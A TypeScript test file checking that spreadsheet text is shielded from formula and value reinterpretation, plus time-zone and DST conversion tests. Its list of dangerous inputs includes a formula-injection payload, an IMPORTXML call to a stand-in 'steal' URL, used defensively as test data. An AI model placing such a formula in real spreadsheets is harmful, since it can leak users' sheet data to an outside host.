import fc from 'fast-check';
import { dataToSheetValue, layoutToSheetValue, protectText } from '../../src/sheets/safe-text';
import { instantToWall, wallToInstant } from '../../src/core/time/zone';
import { createFakeServices } from '../fakes/services';

function writeAndRead(values: unknown[]): { read: unknown[]; formulas: number } {
  const world = createFakeServices();
  const sheet = world.app.spreadsheet.addSheet('T');
  sheet.getRange(1, 1, 1, values.length).setValues([values]);
  return { read: sheet.getRange(1, 1, 1, values.length).getValues()[0], formulas: sheet.formulaCount() };
}

describe('text protection', () => {
  const dangerous = [
    '=IMPORTXML("https://example.com/steal","//a")',
    '+7 (495) 123-45-67',
    '-1+2',
    '@SUM(A1)',
    '123',
    '0012',
    '2024-01-01',
    '12%',
    'TRUE',
    "'already quoted",
    ' =SUM(1)',
  ];

  test.each(dangerous)('%s is written so it reads back as exactly that text, not a formula', (text) => {
    const { read, formulas } = writeAndRead([layoutToSheetValue(text, 'UTC')]);
    expect(read).toEqual([text]);
    expect(formulas).toBe(0);
  });

  test('without protection the same strings would be reinterpreted (the fake is not lenient)', () => {
    const { read, formulas } = writeAndRead(['=1+1', '123', '2024-01-01']);
    expect(formulas).toBe(1);
    expect(read[1]).toBe(123);
    expect(read[2]).toBeInstanceOf(Date);
  });

  test('any string survives the round trip unchanged (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ maxLength: 20 }), { minLength: 1, maxLength: 8 }), (texts) => {
        const { read, formulas } = writeAndRead(texts.map((t) => protectText(t)));
        return formulas === 0 && read.every((v, i) => v === texts[i]);
      }),
      { numRuns: 300 },
    );
  });

  test('our own numbers, booleans and blanks stay real values', () => {
    expect(layoutToSheetValue(0.25, 'UTC')).toBe(0.25);
    expect(layoutToSheetValue(true, 'UTC')).toBe(true);
    expect(layoutToSheetValue(null, 'UTC')).toBe('');
    expect(layoutToSheetValue(Number.NaN, 'UTC')).toBe('');
    expect(dataToSheetValue(undefined)).toBe('');
    expect(dataToSheetValue(-1500)).toBe(-1500);
  });

  test('a LayoutDate becomes the instant that shows that wall-clock day in the spreadsheet zone', () => {
    const wall = Date.UTC(2026, 10, 2); // 2026-11-02 00:00 local
    expect(layoutToSheetValue({ wallMs: wall }, 'Europe/Moscow')).toEqual(new Date('2026-11-01T21:00:00Z'));
    expect(layoutToSheetValue({ wallMs: wall }, 'America/Los_Angeles')).toEqual(new Date('2026-11-02T08:00:00Z'));
  });
});

describe('zone time', () => {
  test('known offsets, including both sides of a DST change', () => {
    // New York: EDT (UTC-4) until 2026-11-01 02:00, then EST (UTC-5).
    expect(new Date(wallToInstant(Date.UTC(2026, 9, 31, 12), 'America/New_York')).toISOString()).toBe('2026-10-31T16:00:00.000Z');
    expect(new Date(wallToInstant(Date.UTC(2026, 10, 2, 12), 'America/New_York')).toISOString()).toBe('2026-11-02T17:00:00.000Z');
    expect(instantToWall(Date.parse('2026-11-01T21:00:00Z'), 'Europe/Moscow')).toBe(Date.UTC(2026, 10, 2));
  });

  test('wall → instant → wall is the identity away from DST gaps (property)', () => {
    const zones = ['UTC', 'Europe/Moscow', 'America/New_York', 'Australia/Sydney', 'Asia/Kolkata', 'America/Santiago'];
    fc.assert(
      fc.property(
        fc.constantFrom(...zones),
        fc.integer({ min: Date.UTC(2000, 0, 1), max: Date.UTC(2040, 0, 1) }),
        (zone, instant) => {
          // Start from an instant so the wall time exists; then the round trip must be exact.
          const wall = instantToWall(instant, zone);
          const back = wallToInstant(wall, zone);
          return instantToWall(back, zone) === wall;
        },
      ),
      { numRuns: 500 },
    );
  });

  test('any wall time keeps its calendar day, gaps included (property)', () => {
    const zones = ['Europe/Moscow', 'America/New_York', 'Australia/Sydney', 'America/Santiago', 'Asia/Tehran'];
    fc.assert(
      fc.property(fc.constantFrom(...zones), fc.integer({ min: Date.UTC(2020, 0, 1), max: Date.UTC(2040, 0, 1) }), (zone, wall) => {
        const shown = instantToWall(wallToInstant(wall, zone), zone);
        return Math.floor(shown / 86_400_000) === Math.floor(wall / 86_400_000);
      }),
      { numRuns: 1000 },
    );
  });

  test('midnight of a calendar day always lands on that day, even where DST starts at midnight', () => {
    // Santiago springs forward at 00:00 (2026-09-06): midnight does not exist, the day must still be right.
    const wall = Date.UTC(2026, 8, 6);
    const shown = instantToWall(wallToInstant(wall, 'America/Santiago'), 'America/Santiago');
    expect(new Date(shown).toISOString().slice(0, 10)).toBe('2026-09-06');
  });
});
